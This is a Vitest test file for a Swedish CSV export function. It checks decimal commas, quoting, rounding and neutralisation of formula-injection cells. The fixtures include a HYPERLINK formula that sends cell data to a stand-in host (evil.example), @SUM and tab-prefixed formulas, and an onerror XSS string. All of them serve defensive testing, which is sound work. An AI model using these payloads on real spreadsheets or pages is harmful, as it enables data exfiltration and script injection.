import { describe, expect, it } from 'vitest';
import { toSwedishCsv } from '../../../src/lib/export/csv';

describe('toSwedishCsv', () => {
	const cols = [
		{ key: 'k', label: 'Kommun' },
		{ key: 'v', label: 'Värde (%)' }
	];

	it('writes BOM, semicolons, CRLF and a decimal comma without rounding away decimals', () => {
		const csv = toSwedishCsv(cols, [
			{ k: 'Timrå', v: 6.85 },
			{ k: 'Gnesta', v: 7 },
			{ k: 'Nybro', v: -1068 }
		]);
		expect(csv).toBe('\ufeffKommun;Värde (%)\r\nTimrå;6,85\r\nGnesta;7\r\nNybro;-1068\r\n');
	});

	it('trims float noise, leaves nulls empty and quotes text with separators', () => {
		const csv = toSwedishCsv(cols, [
			{ k: 'a;b "c"', v: 0.1 + 0.2 },
			{ k: 'x', v: null }
		]);
		expect(csv.split('\r\n').slice(1, 3)).toEqual(['"a;b ""c""";0,3', 'x;']);
	});

	it('rounds only when the column asks for it, with no thousands separator', () => {
		const csv = toSwedishCsv([{ key: 'v', label: 'tkr', decimals: 0 }], [{ v: 1234567.4 }]);
		expect(csv.split('\r\n')[1]).toBe('1234567');
	});

	it('neutralises text cells that Excel would run as formulas (OWASP), never numeric cells', () => {
		const csv = toSwedishCsv(
			[
				{ key: 'k', label: 'Enhet' },
				{ key: 'c', label: 'Förändring' },
				{ key: 'v', label: 'tkr' }
			],
			[
				{ k: '=HYPERLINK("http://evil.example/?"&A1;"klicka")', c: '+0,2 procentenheter', v: -1068 },
				{ k: '@SUM(A1:A9)', c: '-0,4 procentenheter', v: -32915.5 },
				{ k: '\t=1+1', c: '\r=1+1', v: 0 },
				{ k: '<img src=x onerror=alert(1)>', c: 'Nybro', v: 12 }
			]
		);
		const lines = csv.split('\r\n');
		expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""klicka"")";'+0,2 procentenheter;-1068`);
		expect(lines[2]).toBe(`'@SUM(A1:A9);'-0,4 procentenheter;-32915,5`);
		expect(lines[3]).toBe(`'\t=1+1;"'\r=1+1";0`);
		// HTML is not a formula: it is written as the text it is (Excel never renders it).
		expect(lines[4]).toBe('<img src=x onerror=alert(1)>;Nybro;12');
		// No cell of the text columns starts with a formula character once the CSV quoting is removed.
		for (const line of lines.slice(1, 4))
			for (const cell of line.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(0, 2))
				expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
	});

	it('headings are neutralised the same way', () => {
		expect(toSwedishCsv([{ key: 'v', label: '=1+1' }], []).split('\r\n')[0]).toBe("\ufeff'=1+1");
	});
});
